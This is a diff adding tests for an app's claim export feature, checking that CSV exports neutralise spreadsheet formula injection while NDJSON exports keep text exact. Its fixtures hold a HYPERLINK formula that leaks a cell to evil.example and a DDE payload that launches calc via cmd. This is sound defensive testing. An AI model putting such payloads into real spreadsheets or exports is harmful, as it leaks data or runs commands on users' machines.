@@ -476,3 +476,45 @@ describe('npm run export (the CLI)', () => {
     expect(() => readFileSync(out)).toThrow();
   });
 });
+
+describe('formula injection (OWASP CSV Injection)', () => {
+  const TEXT = '=HYPERLINK("https://evil.example/?leak="&A1, "Click for the source")';
+  const QUOTE = '+1 (555) 010-9999 is the number to call';
+  const CONTEXT = '-2+3 said the minister, on television';
+  const NAME = '@SUM(1+1)*cmd|\' /C calc\'!A0';
+  let claimId: string;
+
+  beforeAll(async () => {
+    const { createActor } = await app.ok<{ createActor: { id: string } }>(
+      `mutation($name: String!) { createActor(input: { name: $name, kind: ORGANISATION }) { id } }`,
+      { name: NAME },
+      n.tokens.checker,
+    );
+    ({
+      createClaim: { id: claimId },
+    } = await app.ok<{ createClaim: { id: string } }>(
+      `mutation($i: CreateClaimInput!) { createClaim(input: $i) { id } }`,
+      { i: { text: TEXT, quote: QUOTE, context: CONTEXT, claimantId: createActor.id } },
+      n.tokens.checker,
+    ));
+  });
+
+  test('claims.csv, meant for spreadsheets, starts such cells with a single quote; other cells are untouched', async () => {
+    const [row] = csvRows(await ok(`/export/claims.csv?claim=${claimId}`));
+    expect([row!.text, row!.quote, row!.context, row!.claimant_name]).toEqual([`'${TEXT}`, `'${QUOTE}`, `'${CONTEXT}`, `'${NAME}`]);
+    expect([row!.id, row!.review_status, row!.version, row!.language]).toEqual([claimId, 'DRAFT', '1', 'en']);
+    // A cell that merely contains = or + somewhere is left as it is.
+    const [trickyRow] = csvRows(await ok(`/export/claims.csv?claim=${tricky.id}`));
+    expect(trickyRow!.text).toBe(TRICKY_TEXT);
+  });
+
+  test('claims.ndjson and both history exports keep the text byte-exact', async () => {
+    const [claim] = lines(await ok(`/export/claims.ndjson?claim=${claimId}`)).map((l) => JSON.parse(l) as { text: string; quote: string; context: string; claimant: { name: string } });
+    expect([claim!.text, claim!.quote, claim!.context, claim!.claimant.name]).toEqual([TEXT, QUOTE, CONTEXT, NAME]);
+    const [event] = lines(await ok(`/export/history.ndjson?claim=${claimId}`)).map((l) => JSON.parse(l) as ExportedEvent);
+    expect(event!.state).toMatchObject({ text: TEXT, quote: QUOTE, context: CONTEXT });
+    expect(specHash(event!)).toBe(event!.hash);
+    const [csvEvent] = csvRows(await ok(`/export/history.csv?claim=${claimId}`));
+    expect(JSON.parse(csvEvent!.state!)).toMatchObject({ text: TEXT, quote: QUOTE, context: CONTEXT });
+  });
+});
